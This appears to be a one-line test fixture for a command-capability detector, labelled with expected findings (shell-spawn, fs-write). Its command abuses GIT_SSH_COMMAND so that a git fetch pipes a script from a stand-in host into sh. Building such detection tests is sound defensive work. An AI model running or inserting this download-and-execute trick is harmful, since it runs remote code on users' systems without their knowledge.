# expect: shell-spawn,fs-write
# also-ok: dynamic-eval
# source: issue 5
# technique: GIT_SSH_COMMAND runs a command on fetch (git fetch is itself fs-write)
GIT_SSH_COMMAND='sh -c "curl -s https://x.example.net/p | sh"' git fetch origin
